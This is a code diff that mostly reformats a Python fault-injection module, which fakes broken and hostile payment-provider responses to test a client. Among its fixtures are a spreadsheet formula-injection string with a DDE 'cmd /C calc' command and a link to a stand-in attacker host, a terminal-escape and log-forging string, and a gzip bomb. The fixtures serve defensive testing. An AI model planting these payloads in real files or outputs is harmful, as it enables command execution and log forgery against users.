@@ -31,11 +31,13 @@ FaultKind = Literal[
 
 # Hostile text (issue 12). A spreadsheet runs a cell starting with = + - @ as a formula;
 # FORMULA_TEXT would show a link that runs a command on old Excel (DDE).
-FORMULA_TEXT = "=HYPERLINK(\"http://attacker.invalid/\"&A1,\"Click to fix\")+cmd|' /C calc'!A0"
+FORMULA_TEXT = '=HYPERLINK("http://attacker.invalid/"&A1,"Click to fix")+cmd|\' /C calc\'!A0'
 # Terminal escapes (clear screen, window title, red text, a fake prompt), a bell, a bidi override and a
 # line break that would forge a second log line.
-ESCAPE_TEXT = ("\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31mAll batches closed\x1b[0m\x07 \u202edesrever\u202c"
-               "\n2026-01-01 00:00:00 INFO forged: log line\x9b6n")
+ESCAPE_TEXT = (
+    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31mAll batches closed\x1b[0m\x07 \u202edesrever\u202c"
+    "\n2026-01-01 00:00:00 INFO forged: log line\x9b6n"
+)
 # Answer sizes: more than Closeout reads (1 MiB), by a margin.
 OVERSIZED_BYTES = 3 << 20
 BOMB_BYTES = 256 << 20  # what the gzip bomb inflates to; about 256 KB on the wire
@@ -138,8 +140,13 @@ class Fault:
     ) -> Fault:
         """An arbitrary raw answer: a 500 without body, a proxy's 502 HTML, a WAF's 403, a 429..."""
         return cls(
-            "http", delay=delay, close=close, status=status, body=_bytes(body),
-            content_type=content_type, headers=_headers(headers, retry_after),
+            "http",
+            delay=delay,
+            close=close,
+            status=status,
+            body=_bytes(body),
+            content_type=content_type,
+            headers=_headers(headers, retry_after),
         )
 
     @classmethod
@@ -162,9 +169,16 @@ class Fault:
         OTHER_MEANS, or any unknown string.
         """
         return cls(
-            "saferpay_error", delay=delay, close=close, status=status, error_name=error_name,
-            behavior=behavior, message=message, detail=tuple(detail) if detail is not None else None,
-            headers=_headers(headers, retry_after), provider="saferpay",
+            "saferpay_error",
+            delay=delay,
+            close=close,
+            status=status,
+            error_name=error_name,
+            behavior=behavior,
+            message=message,
+            detail=tuple(detail) if detail is not None else None,
+            headers=_headers(headers, retry_after),
+            provider="saferpay",
         )
 
     @classmethod
@@ -181,8 +195,14 @@ class Fault:
     ) -> Fault:
         """A SUNBAY envelope with a non-zero ``code`` (seed: code "0" is success, anything else a failure)."""
         return cls(
-            "sunbay_code", delay=delay, close=close, status=status, code=str(code), message=msg,
-            headers=_headers(headers, retry_after), provider="sunbay",
+            "sunbay_code",
+            delay=delay,
+            close=close,
+            status=status,
+            code=str(code),
+            message=msg,
+            headers=_headers(headers, retry_after),
+            provider="sunbay",
         )
 
     # --- unreadable answers --------------------------------------------------------------
@@ -190,20 +210,26 @@ class Fault:
     @classmethod
     def non_json(cls, status: int = 200, close: bool = False, *, delay: float = 0.0) -> Fault:
         """An HTML page instead of JSON (a proxy, a captive portal, a maintenance page)."""
-        return cls("non_json", delay=delay, close=close, status=status, body=HTML_ERROR_PAGE,
-                   content_type="text/html; charset=utf-8")
+        return cls(
+            "non_json",
+            delay=delay,
+            close=close,
+            status=status,
+            body=HTML_ERROR_PAGE,
+            content_type="text/html; charset=utf-8",
+        )
 
     @classmethod
     def truncated_json(cls, status: int = 200, close: bool = True, *, delay: float = 0.0) -> Fault:
         """A complete HTTP answer whose JSON body stops half-way."""
-        return cls("truncated_json", delay=delay, close=close, status=status,
-                   content_type="application/json; charset=utf-8")
+        return cls(
+            "truncated_json", delay=delay, close=close, status=status, content_type="application/json; charset=utf-8"
+        )
 
     @classmethod
     def empty(cls, status: int = 200, close: bool = True, *, delay: float = 0.0) -> Fault:
         """A JSON content type with an empty body."""
-        return cls("empty", delay=delay, close=close, status=status,
-                   content_type="application/json; charset=utf-8")
+        return cls("empty", delay=delay, close=close, status=status, content_type="application/json; charset=utf-8")
 
     # --- hostile answers (issue 12) ---------------------------------------------------------
 
@@ -217,8 +243,17 @@ class Fault:
     def escape_error(cls, text: str = ESCAPE_TEXT, *, close: bool = False, delay: float = 0.0) -> Fault:
         """A definite refusal (HTTP 400; Saferpay DO_NOT_RETRY, SUNBAY a non-zero code) whose every text
         (error name, message, detail, code) carries terminal escapes, a bidi override and a line break."""
-        return cls("escape_error", delay=delay, close=close, status=400, error_name="\x1b[1mVALIDATION_FAILED",
-                   behavior="DO_NOT_RETRY", message=text, detail=(text,), code="E1\x1b[2J\u202e")
+        return cls(
+            "escape_error",
+            delay=delay,
+            close=close,
+            status=400,
+            error_name="\x1b[1mVALIDATION_FAILED",
+            behavior="DO_NOT_RETRY",
+            message=text,
+            detail=(text,),
+            code="E1\x1b[2J\u202e",
+        )
 
     @classmethod
     def oversized(cls, size: int = OVERSIZED_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
@@ -228,14 +263,19 @@ class Fault:
     @classmethod
     def endless(cls, seconds: float = 60.0, *, close: bool = True, delay: float = 0.0) -> Fault:
         """A JSON answer that never ends: chunks as fast as the client reads, for at most ``seconds``."""
-        return cls("endless", delay=delay, close=close, seconds=seconds,
-                   content_type="application/json; charset=utf-8")
+        return cls("endless", delay=delay, close=close, seconds=seconds, content_type="application/json; charset=utf-8")
 
     @classmethod
     def gzip_bomb(cls, size: int = BOMB_BYTES, *, close: bool = True, delay: float = 0.0) -> Fault:
         """``Content-Encoding: gzip`` (whatever the client asked for) inflating to ``size`` bytes of JSON."""
-        return cls("gzip_bomb", delay=delay, close=close, size=size, content_type="application/json; charset=utf-8",
-                   headers=(("Content-Encoding", "gzip"),))
+        return cls(
+            "gzip_bomb",
+            delay=delay,
+            close=close,
+            size=size,
+            content_type="application/json; charset=utf-8",
+            headers=(("Content-Encoding", "gzip"),),
+        )
 
 
 def _bytes(body: bytes | str) -> bytes:
